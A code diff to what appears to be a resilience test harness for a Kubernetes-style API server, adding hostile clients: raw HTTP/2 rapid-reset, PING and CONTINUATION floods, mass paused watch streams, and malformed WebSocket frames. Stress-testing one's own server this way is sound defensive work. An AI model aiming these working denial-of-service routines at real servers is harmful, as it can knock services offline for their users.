@@ -1,4 +1,5 @@
 /** Clients that mean harm, each within what a server must bear. All go on until they are stopped. */
+import { connect as connectHttp2 } from 'node:http2';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { connect, type TLSSocket } from 'node:tls';
 import { definitionOf, heavyYaml, largeDefinitions } from '../watchdog/heavy-requests.ts';
@@ -101,6 +102,50 @@ const rounds: Readonly<Record<string, (attack: Attack, round: number) => Promise
     for (const socket of sockets) socket.destroy();
   },
 
+  async http2Floods({ target }, round) {
+    const socket = await open(target, ['h2']);
+    socket.write(http2.preface);
+    const flood = http2.floods[round % http2.floods.length];
+    // Answers are not read.
+    for (let n = 0; n < 20_000 && socket.writable; n += 100) {
+      const frames = Buffer.concat(Array.from({ length: 100 }, (_, i) => flood?.(n + i) ?? http2.settings));
+      if (!socket.write(frames)) await Promise.race([drained(socket), closed(socket), sleep(200)]);
+    }
+    socket.destroy();
+  },
+
+  async pausedHttp2Watchers({ target, send }, round) {
+    const client = connectHttp2(target.url, { ca: target.ca });
+    client.on('error', () => undefined);
+    for (let n = 0; n < 100; n++) {
+      const headers = { ':path': `${configMaps}?watch=true`, authorization: `Bearer ${target.token}` };
+      client.request(headers).on('error', () => undefined);
+    }
+    const data = { text: `${round} ${'x'.repeat(50_000)}` };
+    await send('PATCH', `${configMaps}/watched`, 'application/merge-patch+json', JSON.stringify({ data }));
+    await sleep(200);
+    client.destroy();
+  },
+
+  async webSockets({ target, send }, round) {
+    const upgrade = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'];
+    const key = `Sec-WebSocket-Key: ${Buffer.alloc(16, round).toString('base64')}`;
+    const path = `${configMaps}?watch=true`;
+    const sockets = await Promise.all(
+      Array.from({ length: 20 }, async () => request(target, 'GET', path, ...upgrade, key)),
+    );
+    // Masked, of 2^63 - 1 bytes; without a mask; nothing of the kind.
+    const frames = ['82ffffffffffffffffff01020304', '8203010203', 'ffffffff', '8980', '8880', '0180'];
+    for (const [i, socket] of sockets.entries()) {
+      socket.pause();
+      socket.write(Buffer.from(frames[i % frames.length] ?? '', 'hex'));
+    }
+    const data = { text: `${round} ${'y'.repeat(50_000)}` };
+    await send('PATCH', `${configMaps}/watched`, 'application/merge-patch+json', JSON.stringify({ data }));
+    await sleep(100);
+    for (const socket of sockets) socket.destroy();
+  },
+
   async proxiedNonsense({ target, send }, round) {
     const paths = [
       '/api/v1/namespaces/default/services/kubernetes:https/proxy/../../x',
@@ -115,6 +160,35 @@ const rounds: Readonly<Record<string, (attack: Attack, round: number) => Promise
     socket.destroy();
   },
 };
+
+/** A frame of HTTP/2 (RFC 9113, 4.1). */
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** `:method GET`, `:scheme https`, `:path /`, by the static table, and an `:authority`. */
+const head = Buffer.from([0x82, 0x87, 0x84, 0x01, 0x01, 0x61]);
+const settings = frame(4, 0, 0, Buffer.alloc(0));
+
+/** What clients of HTTP/2 send that mean harm. */
+export const http2 = {
+  preface: Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), settings]),
+  settings,
+  head,
+  frame,
+  /** The n-th frames of a flood: resets, pings, CONTINUATION, heads that never end. */
+  floods: [
+    (n: number) => Buffer.concat([frame(1, 5, 2 * n + 1, head), frame(3, 0, 2 * n + 1, Buffer.alloc(4))]),
+    () => frame(6, 0, 0, Buffer.alloc(8)),
+    (n: number) => (n === 0 ? frame(1, 0, 1, head) : frame(9, 0, 1, Buffer.from([0x82]))),
+    (n: number) => (n === 0 ? frame(1, 0, 1, head) : frame(9, 0, 1, Buffer.alloc(16_384, 0x82))),
+  ],
+} as const;
 
 /** How many of each work at the same time. */
 const parallel: Readonly<Record<string, number>> = { badYaml: 2, slowHeaders: 20, slowBodies: 20 };
@@ -160,9 +234,13 @@ async function closed(socket: TLSSocket): Promise<void> {
   return new Promise((resolve) => socket.once('close', () => resolve()));
 }
 
-async function open({ url, ca }: Target): Promise<TLSSocket> {
+async function drained(socket: TLSSocket): Promise<void> {
+  return new Promise((resolve) => socket.once('drain', () => resolve()));
+}
+
+async function open({ url, ca }: Target, protocols: string[] = ['http/1.1']): Promise<TLSSocket> {
   const { hostname, port } = new URL(url);
-  const socket = connect({ host: hostname, port: Number(port), ca });
+  const socket = connect({ host: hostname, port: Number(port), ca, ALPNProtocols: protocols });
   // A reset is an answer, too.
   socket.on('error', () => undefined);
   const connected = new Promise((resolve) => socket.once('secureConnect', resolve));
